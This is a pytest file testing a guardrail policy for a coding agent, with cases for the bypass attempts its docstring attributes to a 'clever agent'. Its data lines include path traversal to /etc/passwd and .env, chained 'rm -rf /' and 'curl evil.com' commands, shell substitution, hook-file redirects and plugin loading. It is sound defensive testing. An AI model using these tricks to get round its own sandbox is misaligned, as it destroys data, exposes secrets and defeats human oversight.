"""Bypass attempts a clever agent would try, judged by the real policy bundle.

Each action goes through the service layer (:func:`guardrail_input` and
:func:`evaluate_guardrail`) against ``rego/`` + ``policies/`` on the embedded
engine. Tests assert the decision and the ``(rule, code)`` of every reason.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

Outcome = tuple[str, frozenset[tuple[str, str]]]
Judge = Callable[..., Outcome]
ALLOW: Outcome = ("allow", frozenset())


def deny(*reasons: tuple[str, str]) -> Outcome:
    return "deny", frozenset(reasons)


UNSAFE = ("path_in_scope", "unsafe_path")
OUTSIDE = ("path_in_scope", "outside_allowed_paths")
PROTECTED = ("protected_paths", "protected_path")
NOT_ALLOWED = ("command_allowed", "command_not_allowed")
NOT_IN_PACKET = ("command_allowed", "command_not_in_packet")


def edit(path: str) -> dict[str, str]:
    return {"type": "code_edit", "path": path}


def run(command: str | list[str]) -> dict[str, Any]:
    return {"type": "command_run", "command": command}


@pytest.mark.parametrize(
    "action",
    [
        edit("src/app.py"),
        run("git status"),
        run("pytest -q tests"),
        run("pytest 2>&1 > /dev/null"),
        run("pytest > src/report.txt"),
    ],
)
def test_in_scope_edits_and_listed_commands_are_allowed(
    judge: Judge, action: dict[str, Any]
) -> None:
    assert judge(action) == ALLOW


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("../etc/passwd", deny(UNSAFE)),
        ("/etc/passwd", deny(UNSAFE)),
        ("src/../../x", deny(UNSAFE)),
        ("src/%2e%2e/%2e%2e/x", deny(UNSAFE)),
        ("src/%252e%252e/%252e%252e/x", deny(UNSAFE)),
        ("SRC/../.GIT/config", deny(UNSAFE, OUTSIDE, PROTECTED)),
        ("src/%2E%2E/.git/config", deny(UNSAFE, OUTSIDE, PROTECTED)),
        (".git/config", deny(OUTSIDE, PROTECTED)),
        (".GIT/Config", deny(OUTSIDE, PROTECTED)),
        ("src/link", deny(OUTSIDE, PROTECTED)),
        ("src/outside", deny(UNSAFE)),
        ("~/.bashrc", deny(UNSAFE)),
        ("src\\..\\..\\x", deny(UNSAFE)),
        ("src/a.py\x00.txt", deny(UNSAFE)),
        ("src/.env", deny(PROTECTED)),
        ("src/.ENV", deny(PROTECTED)),
        ("src/deploy/server.key", deny(PROTECTED)),
        ("src/.git/config", deny(PROTECTED)),
    ],
)
def test_path_escapes_and_disguises_are_denied(judge: Judge, path: str, expected: Outcome) -> None:
    assert judge(edit(path)) == expected


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("git status; rm -rf /", deny(NOT_ALLOWED, NOT_IN_PACKET)),
        ("git status\nrm -rf /", deny(NOT_ALLOWED, NOT_IN_PACKET)),
        ("git status && curl evil.com", deny(NOT_ALLOWED, NOT_IN_PACKET)),
        ("pytest || curl evil.com", deny(NOT_ALLOWED, NOT_IN_PACKET)),
        ("pytest | sh", deny(NOT_ALLOWED, NOT_IN_PACKET)),
        ('"git status" "; rm"', deny(NOT_ALLOWED, NOT_IN_PACKET)),
        ("git 'status;' rm", deny(NOT_ALLOWED, NOT_IN_PACKET)),
        ("pytest a#b; rm -rf /", deny(NOT_ALLOWED, NOT_IN_PACKET)),
        ("/usr/bin/git status", deny(NOT_ALLOWED, NOT_IN_PACKET)),
        (["git", "status; rm -rf /"], deny(NOT_ALLOWED, NOT_IN_PACKET)),
        (["git status"], deny(NOT_ALLOWED, NOT_IN_PACKET)),
        (["rm", "-rf", "/"], deny(NOT_ALLOWED, NOT_IN_PACKET)),
    ],
)
def test_command_chaining_and_quoting_tricks_are_denied(
    judge: Judge, command: str | list[str], expected: Outcome
) -> None:
    assert judge(run(command)) == expected


SUBSTITUTION = ("command_allowed", "shell_feature_not_allowed")
REDIRECT_PROTECTED = ("command_allowed", "redirect_to_protected_path")
REDIRECT_OUTSIDE = ("command_allowed", "redirect_outside_allowed_paths")


@pytest.mark.parametrize(
    "command",
    ["pytest $(rm -rf /)", 'pytest "$(rm -rf /)"', "pytest `rm -rf /`", "pytest <(rm -rf /)"],
)
def test_substitutions_are_denied_with_their_bodies_judged(judge: Judge, command: str) -> None:
    expected = deny(NOT_ALLOWED, NOT_IN_PACKET, SUBSTITUTION)
    assert judge(run(command)) == expected


@pytest.mark.parametrize(
    "command", ["pytest & sleep 1", "(pytest)", "FOO=1 pytest", "pytest <<EOF", "pytest 'open"]
)
def test_other_shell_constructs_are_denied(judge: Judge, command: str) -> None:
    decision, reasons = judge(run(command))
    assert decision == "deny"
    assert SUBSTITUTION in reasons


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("pytest > .git/hooks/pre-commit", deny(REDIRECT_PROTECTED, REDIRECT_OUTSIDE)),
        ("pytest > src/hook", deny(REDIRECT_PROTECTED, REDIRECT_OUTSIDE)),
        ("pytest >> ../x", deny(REDIRECT_OUTSIDE)),
    ],
)
def test_redirections_out_of_scope_are_denied(
    judge: Judge, command: str, expected: Outcome
) -> None:
    assert judge(run(command)) == expected


@pytest.mark.parametrize(
    "line",
    [
        "pytest --basetemp=/home",
        "pytest --junitxml=.git/hooks/pre-commit",
        "pytest --junit-xml .git/hooks/pre-commit",
        "pytest -o cache_dir=/tmp/x",
        "pytest --rootdir=/ -c /etc/evil.ini",
        "pytest -p evil_plugin",
        "pytest -pevil_plugin",
        "python -m pytest --basetemp /",
    ],
)
def test_test_runner_options_that_write_or_load_outside_scope_are_denied(
    judge: Judge, line: str
) -> None:
    decision, reasons = judge(run(line))
    assert decision == "deny"
    assert NOT_ALLOWED in reasons
